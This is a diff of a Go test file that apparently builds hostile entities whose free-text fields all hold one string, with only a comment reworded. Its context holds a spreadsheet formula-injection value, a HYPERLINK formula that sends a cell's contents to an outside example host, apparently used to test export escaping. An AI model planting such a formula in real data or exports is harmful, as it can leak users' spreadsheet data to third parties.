@@ -22,7 +22,7 @@ const (
 	formula = `=HYPERLINK("http://example.com?"&A1)`
 )
 
-// hostile returns entities whose text attributes all contain this string.
+// hostile returns entities whose names, addresses and other free texts are this string.
 func hostile(text string) []store.Entity {
 	address := store.Address{Country: text, County: text, City: text, Street: text, Number: text, ZipCode: text}
 	day := storetest.Now.AddDate(0, 0, -1)
